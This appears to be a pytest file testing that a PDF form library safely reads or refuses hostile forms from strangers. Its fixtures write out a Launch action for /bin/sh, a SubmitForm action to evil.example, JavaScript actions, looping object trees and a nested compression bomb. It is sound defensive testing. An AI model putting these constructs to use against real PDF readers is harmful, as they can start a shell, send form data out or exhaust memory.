"""PDF forms that came from strangers: read safely, or refused with the reason, within time and memory."""

import io
import re
import subprocess
import sys
import zlib

import pikepdf
import pytest

import wego_forms as wf
from tests.reading.limits import outcome, saved

#: pikepdf tells of widgets that a test leaves without their form.
pytestmark = pytest.mark.filterwarnings("ignore:This document has")


def form():
    filled = wf.fill(wf.load("examples/dimitrovgrad.yaml"), lang="ru", fillable=True)
    return pikepdf.open(io.BytesIO(filled.pdf()))


def test_scripts_and_actions_in_a_form_are_passed_over(tmp_path):
    pdf = form()
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"))
    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AcroForm.Fields[0].AA = pikepdf.Dictionary(K=script, F=launch, C=submit)
    assert outcome(saved(pdf, tmp_path)) == "read 6 0"


def test_a_tree_of_fields_that_comes_back_to_itself_ends(tmp_path):
    pdf = form()
    root = pdf.Root.AcroForm.Fields[0]
    root.Kids.append(root)
    pdf.Root.AcroForm.Fields.append(root)
    assert outcome(saved(pdf, tmp_path)) == "read 6 0"


def test_a_tree_of_pages_that_comes_back_to_itself_does_no_harm(tmp_path):
    raw = wf.blank("application", "ru", fillable=True).pdf()
    pages = re.search(rb"/Pages (\d+ 0 R)", raw)[1]
    looped = re.sub(
        rb"/Kids \[ (\d+ 0 R \d+) 0 R", lambda found: b"/Kids [ " + pages.ljust(len(found[1]) + 4), raw
    )
    assert looped != raw
    (tmp_path / "pages.pdf").write_bytes(looped)
    assert outcome(tmp_path / "pages.pdf").startswith(("read", "refused"))


def test_a_tree_that_is_too_deep_is_refused(tmp_path):
    pdf = form()
    node = pdf.Root.AcroForm.Fields[0]
    for number in range(100):
        node = pdf.make_indirect(
            pikepdf.Dictionary(T=pikepdf.String(f"n{number}"), Kids=pikepdf.Array([node]))
        )
    pdf.Root.AcroForm.Fields = pikepdf.Array([node])
    assert "larger than forms are" in outcome(saved(pdf, tmp_path))


def test_an_encrypted_form_is_refused_with_the_way_out(tmp_path):
    encryption = pikepdf.Encryption(owner="a", user="b")
    assert "Save it without a password" in outcome(saved(form(), tmp_path, encryption=encryption))


def test_a_form_in_xfa_alone_is_refused_with_the_way_out(tmp_path):
    pdf = form()
    pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp/>"), Fields=pikepdf.Array())
    assert "XFA" in outcome(saved(pdf, tmp_path))


@pytest.mark.parametrize("packed", [1, 2])
def test_a_bomb_in_a_stream_of_objects_is_refused_before_it_is_unpacked(tmp_path, packed):
    bomb = b"1 0 " + b" " * 300_000_000
    for _ in range(packed):
        bomb = zlib.compress(bomb, 1)
    filters = b"[" + b"/FlateDecode " * packed + b"]"
    head = b"%PDF-1.5\n5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter " + filters
    head += b" /Length %d >>\nstream\n" % len(bomb)
    (tmp_path / "bomb.pdf").write_bytes(
        head + bomb + b"\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF"
    )
    assert outcome(tmp_path / "bomb.pdf").startswith("refused")


def test_a_huge_value_is_told_and_not_taken(tmp_path):
    pdf = pikepdf.open(io.BytesIO(wf.blank("application", "ru", fillable=True).pdf()))
    pdf.Root.AcroForm.Fields[1].Kids[0].V = pikepdf.String("я" * 3_000_000)
    assert outcome(saved(pdf, tmp_path)) == "read 1 1"


@pytest.mark.parametrize("cut", [0, 10, 1000, 20_000])
def test_a_damaged_file_is_refused_or_read_but_never_breaks(tmp_path, cut):
    (tmp_path / "cut.pdf").write_bytes(wf.blank("application", "ru", fillable=True).pdf()[:cut])
    told = outcome(tmp_path / "cut.pdf")
    assert told.startswith(("refused", "read"))
    assert "BytesIO" not in told


def test_a_stream_of_100_mb_is_no_matter_where_nobody_looks_into_it(tmp_path):
    pdf = form()
    pdf.Root.Extra = pdf.make_stream(b" " * 100_000_000)
    assert outcome(saved(pdf, tmp_path)) == "read 6 0"


def test_a_value_in_a_stream_of_100_mb_is_not_taken(tmp_path):
    pdf = form()
    pdf.Root.AcroForm.Fields[1].Kids[0].V = pdf.make_stream(b"a" * 100_000_000)
    assert outcome(saved(pdf, tmp_path)).startswith(("read", "refused"))


def test_a_form_of_files_elsewhere_is_read_without_them(tmp_path):
    pdf = form()
    far = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, FS=pikepdf.Name.URL, F=pikepdf.String("http://x.example/a")
    )
    pdf.Root.AcroForm.Fields[0].V = far
    pdf.Root.AcroForm.Fields[1].Kids[0].V = pikepdf.Dictionary(F=far, Type=pikepdf.Name.EmbeddedFile)
    stream = pdf.make_stream(b"")
    stream.F = far
    pdf.Root.AcroForm.Fields[1].Kids[1].V = stream
    assert outcome(saved(pdf, tmp_path)).startswith("read")


@pytest.mark.parametrize("user", ["", "b"])
def test_a_pdf_locked_against_changes_alone_is_read(tmp_path, user):
    encryption = pikepdf.Encryption(owner="a", user=user)
    told = outcome(saved(form(), tmp_path, encryption=encryption))
    assert told == "read 6 0" if not user else "Save it without a password" in told


def test_a_pdf_of_a_hundred_thousand_fields_is_refused_in_time(tmp_path):
    pdf = form()
    kids = [pdf.make_indirect(pikepdf.Dictionary(T=pikepdf.String(f"f{n}"))) for n in range(100_000)]
    pdf.Root.AcroForm.Fields = pikepdf.Array(kids)
    assert "larger than forms are" in outcome(saved(pdf, tmp_path))


def test_the_limits_of_these_tests_hold():
    code = "import resource; resource.setrlimit(resource.RLIMIT_AS, (10**9, 10**9)); bytearray(2 * 10**9)"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, check=False).returncode != 0


def test_what_qpdf_logs_of_a_damaged_file_is_not_printed(tmp_path):
    """It is a message of its log, which Python prints where nobody listens to the log."""
    form().save(tmp_path / "form.pdf")
    code = "import logging, sys, wego_forms as wf; wf.read(sys.argv[1])"
    code += "; logging.getLogger('pikepdf._core').error('x')"
    run = [sys.executable, "-c", code, tmp_path / "form.pdf"]
    done = subprocess.run(run, capture_output=True, check=True)
    assert (done.stdout, done.stderr) == (b"", b"")
